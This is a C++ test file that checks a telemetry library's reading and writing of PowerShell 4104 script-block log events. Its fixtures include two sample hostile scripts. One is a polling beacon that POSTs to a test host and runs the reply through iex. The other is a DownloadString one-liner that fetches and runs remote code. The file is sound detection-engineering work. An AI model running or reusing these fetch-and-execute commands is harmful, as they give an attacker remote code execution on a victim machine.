// powershell-4104 against hand-written samples (tests/telemetry/data/powershell_4104*.xml): the Splunk rendering
// reads to the event below and is written back byte for byte; a Windows export (double quotes, whitespace,
// RenderingInfo, Level 3) reads too; script text of any bytes survives on one line.
#include <gtest/gtest.h>

#include <algorithm>

#include "event_diff.hpp"
#include "format_samples.hpp"
#include "telemetry/format.hpp"
#include "test_files.hpp"
#include "windows_event_samples.hpp"

namespace sclab::telemetry {
namespace {

using testing::format_named;
using testing::read_events;
using testing::replaced;
using testing::sample_path;
using testing::write_events;

const format_info& powershell() { return format_named("powershell-4104"); }

const std::string alice_sid = "S-1-5-21-1004336348-1177238915-682003330-1104";

event beacon_script_block() {
    event e;
    e.kind = event_kind::script_block;
    e.time = 1673451001992534100;  // 2023-01-11T15:30:01.9925341Z
    e.host = "WS01.corp.example";
    e.record_id = "4411";
    e.process.pid = 7312;  // Execution ProcessID: the powershell.exe that ran the block
    e.script.message_number = 1;
    e.script.message_total = 1;
    e.script.text =
        "# <beacon>\n"
        "$u = 'https://beacon.argustest.workers.dev/api'\n"
        "while ($true) {\n"
        "\t$r = Invoke-WebRequest -Uri $u -Method POST -Body \"id=7&t=$(Get-Date -UFormat %s)\" -UseBasicParsing\n"
        "\tif ($r.Content.Length) { iex $r.Content }\n"
        "\tStart-Sleep -Seconds 60\n"
        "}";
    e.script.id = "6c4b7a52-8e0f-4d1b-9a3c-2f5e7d9b1c04";
    e.script.path = "C:\\Users\\alice\\AppData\\Local\\Temp\\beacon.ps1";
    e.extra = {{"System.Execution.ThreadID", "7408"},
               {"System.Security.UserID", alice_sid},
               {"System.Correlation.ActivityID", "{8f2d5a10-25b6-0001-9c3e-2d8fb625d901}"}};
    return e;
}

TEST(powershell_4104, reads_the_golden_sample) {
    const auto got = read_events(powershell(), sample_path("powershell_4104.xml"));
    ASSERT_EQ(got.size(), 1u);
    const event expected = beacon_script_block();
    EXPECT_EQ(expected, got[0]) << testing::diff_events(expected, got[0]);
    EXPECT_NE(got[0].script.text.find("-Body \"id=7&t=$(Get-Date"), std::string::npos);
    EXPECT_EQ(std::count(got[0].script.text.begin(), got[0].script.text.end(), '\n'), 6);
}

TEST(powershell_4104, writes_the_golden_sample_byte_for_byte) {
    EXPECT_EQ(testing::read_file(sample_path("powershell_4104.xml")),
              write_events(powershell(), {beacon_script_block()}));
}

TEST(powershell_4104, reads_a_windows_export_and_keeps_its_warning_level) {
    const auto got = read_events(powershell(), sample_path("powershell_4104_windows_export.xml"));
    ASSERT_EQ(got.size(), 1u);
    event expected;
    expected.kind = event_kind::script_block;
    expected.time = 1673451001992534100;  // 2023-01-11T15:30:01.992534100Z
    expected.host = "WS01.corp.example";
    expected.record_id = "4412";
    expected.process.pid = 7312;
    expected.script = {
        .text = "iex (New-Object Net.WebClient).DownloadString('https://beacon.argustest.workers.dev/s')",
        .id = "0be6ea7f-ff36-4527-af0d-5125b95be731",
        .message_number = 1,
        .message_total = 1,
        .path = ""};
    expected.extra = {{"System.Execution.ThreadID", "7408"},
                      {"System.Security.UserID", alice_sid},
                      {"System.Correlation.ActivityID", "{8F2D5A10-25B6-0001-9C3E-2D8FB625D901}"},
                      {"System.Level", "3"}};  // logged as Warning: PowerShell found the block suspicious
    EXPECT_EQ(expected, got[0]) << testing::diff_events(expected, got[0]);

    const std::string written = write_events(powershell(), got);
    EXPECT_NE(written.find("<Level>3</Level>"), std::string::npos) << written;
    EXPECT_NE(written.find("Guid='{a0c1853b-5c40-4b15-8766-3cf1c58f985a}'"), std::string::npos) << written;
    EXPECT_NE(written.find("<Data Name='Path'></Data></EventData></Event>\n"), std::string::npos) << written;
}

TEST(powershell_4104, writes_defaults_when_the_event_says_nothing) {
    event e;
    e.kind = event_kind::script_block;
    e.time = 1673451001000000000;  // 2023-01-11T15:30:01Z
    e.script = {.text = "whoami",
                .id = "11111111-2222-3333-4444-555555555555",
                .message_number = 1,
                .message_total = 1,
                .path = ""};
    EXPECT_EQ(write_events(powershell(), {e}),
              "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
              "<Provider Name='Microsoft-Windows-PowerShell' Guid='{a0c1853b-5c40-4b15-8766-3cf1c58f985a}'/>"
              "<EventID>4104</EventID><Version>1</Version><Level>5</Level><Task>2</Task><Opcode>15</Opcode>"
              "<Keywords>0x0</Keywords><TimeCreated SystemTime='2023-01-11T15:30:01.0000000Z'/>"
              "<EventRecordID>0</EventRecordID><Correlation/><Execution ProcessID='0' ThreadID='0'/>"
              "<Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer></Computer><Security/></System>"
              "<EventData><Data Name='MessageNumber'>1</Data><Data Name='MessageTotal'>1</Data>"
              "<Data Name='ScriptBlockText'>whoami</Data><Data "
              "Name='ScriptBlockId'>11111111-2222-3333-4444-555555555555</Data>"
              "<Data Name='Path'></Data></EventData></Event>\n");
}

TEST(powershell_4104, any_script_text_survives_on_one_line) {
    std::string every_byte;
    for (int b = 0; b < 256; ++b) every_byte.push_back(static_cast<char>(b));
    std::vector<event> written;
    for (const std::string& text : {every_byte, std::string("line 1\r\nline 2\n\n</Data></EventData></Event>\n"),
                                    std::string("&amp; is not & and &#10; is not \n"), std::string(70000, 'A')}) {
        event e = beacon_script_block();
        e.script.text = text;
        e.script.message_number = 2;
        e.script.message_total = 3;
        written.push_back(e);
    }
    const std::string bytes = write_events(powershell(), written);
    EXPECT_EQ(std::count(bytes.begin(), bytes.end(), '\n'), static_cast<long>(written.size()));
    testing::temp_dir dir;
    testing::write_file(dir.path("s.xml"), bytes);
    const auto got = read_events(powershell(), dir.path("s.xml"));
    ASSERT_EQ(got.size(), written.size());
    for (std::size_t i = 0; i < got.size(); ++i) {
        EXPECT_EQ(written[i].script.text, got[i].script.text) << "text " << i;
        EXPECT_EQ(got[i].script.message_number, 2u);
        EXPECT_EQ(got[i].script.message_total, 3u);
    }
}

TEST(powershell_4104, retain_says_what_a_4104_record_cannot_hold) {
    event e = beacon_script_block();
    e.time += 99;            // below TimeCreated's 100 ns
    e.user = "CORP\\alice";  // the channel carries only the SID
    e.process.image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    e.record_id = "not a number";
    const event kept = powershell().retain(e);
    EXPECT_EQ(kept.time, beacon_script_block().time);
    EXPECT_EQ(kept.user, "");
    EXPECT_EQ(kept.process.image, "");
    EXPECT_EQ(kept.process.pid, 7312u);
    EXPECT_EQ(kept.record_id, "");
    EXPECT_EQ(kept.script, e.script);
    testing::temp_dir dir;
    testing::write_file(dir.path("r.xml"), write_events(powershell(), {e}));
    const auto got = read_events(powershell(), dir.path("r.xml"));
    ASSERT_EQ(got.size(), 1u);
    EXPECT_EQ(kept, got[0]) << testing::diff_events(kept, got[0]);
}

TEST(powershell_4104, malformed_records_give_a_reason) {
    std::string good = testing::read_file(sample_path("powershell_4104.xml"));
    good.pop_back();
    std::string sysmon = testing::read_file(sample_path("sysmon_eid3.xml"));
    sysmon.pop_back();
    testing::expect_rejections(
        powershell(),
        {
            {sysmon, "not a PowerShell event"},
            {replaced(good, "<EventID>4104<", "<EventID>4103<"), "EventID 4103 is not one powershell-4104 carries"},
            {replaced(good, "<Data Name='ScriptBlockText'>", "<Data Name='ScriptText'>"),
             "missing Data 'ScriptBlockText'"},
            {replaced(good, "<Data Name='MessageNumber'>1<", "<Data Name='MessageNumber'>one<"),
             "'MessageNumber' is not a number"},
            {replaced(good, "<Data Name='MessageTotal'>1<", "<Data Name='MessageTotal'>4294967296<"),
             "'MessageTotal' is not a number up to 4294967295"},
            {replaced(good, "&#10;$u", "&#xZZ;$u"), "'ScriptBlockText' holds a bad character reference"},
            {replaced(good, "ProcessID='7312'", "ProcessID=\"7312'"), "'<' in the value of attribute ProcessID"},
            {replaced(good, "</Event>", "</Event"), "expected '>' closing </Event>"},
            {replaced(good, "</Event>", "</Even>"), "truncated event"},
        });
}

TEST(powershell_4104, strict_and_lenient_and_blank_lines) {
    const std::string good = testing::read_file(sample_path("powershell_4104.xml"));
    testing::temp_dir dir;
    const std::string path = dir.path("ps.xml");
    testing::write_file(path, "\n   \n" + good + "garbage\n" + good);
    try {
        read_events(powershell(), path);
        FAIL() << "strict mode took garbage";
    } catch (const input_error& e) {
        EXPECT_EQ(e.line(), 4u);
        EXPECT_NE(e.reason().find("not a Windows event"), std::string::npos) << e.what();
    }
    const auto got = read_events(powershell(), path, read_options{.strict = false});
    EXPECT_EQ(got.size(), 2u);
}

TEST(powershell_4104, mutated_samples_are_read_or_rejected_never_crash) {
    testing::expect_event_mutations_read_or_rejected(powershell(),
                                               {testing::read_file(sample_path("powershell_4104.xml")),
                                                testing::read_file(sample_path("powershell_4104_windows_export.xml"))},
                                               3000, 78);
}

// Get-WinEvent ... | ForEach-Object { $_.ToXml() } > file: the script's own CR LF line breaks raw inside
// ScriptBlockText (the record spans 7 lines), CRLF between records, the second record pretty-printed.
TEST(powershell_4104, reads_get_winevent_toxml_with_a_script_over_many_lines) {
    const auto got = read_events(powershell(), sample_path("powershell_4104_get_winevent.xml"));
    ASSERT_EQ(got.size(), 2u);
    const event expected = beacon_script_block();  // CR LF reads as LF, as in any XML parser
    EXPECT_EQ(expected, got[0]) << testing::diff_events(expected, got[0]);
    EXPECT_EQ(std::count(got[0].script.text.begin(), got[0].script.text.end(), '\n'), 6);
    EXPECT_EQ(got[1].script.text, "prompt");
    EXPECT_EQ(got[1].record_id, "4412");
    EXPECT_EQ(got[1].script.path, "");
}

TEST(powershell_4104, a_bad_record_after_a_multi_line_script_names_its_own_start_line) {
    const std::string file =
        replaced(testing::read_file(sample_path("powershell_4104_get_winevent.xml")),
                 "<EventID>4104</EventID>\r\n    <Version>", "<EventID>4103</EventID>\r\n    <Version>");
    testing::temp_dir dir;
    testing::write_file(dir.path("ps.xml"), file);
    try {
        read_events(powershell(), dir.path("ps.xml"));
        FAIL() << "strict mode took EventID 4103";
    } catch (const input_error& e) {
        EXPECT_EQ(e.line(), 8u);  // the first record spans lines 1-7
        EXPECT_NE(e.reason().find("EventID 4103"), std::string::npos) << e.what();
    }
    // Cut inside the multi-line script: reported on line 1, where the record starts.
    testing::write_file(dir.path("cut.xml"), file.substr(0, file.find("Start-Sleep")));
    try {
        read_events(powershell(), dir.path("cut.xml"));
        FAIL() << "strict mode took a cut record";
    } catch (const input_error& e) {
        EXPECT_EQ(e.line(), 1u);
        EXPECT_NE(e.reason().find("truncated event"), std::string::npos) << e.what();
    }
}

}  // namespace
}  // namespace sclab::telemetry
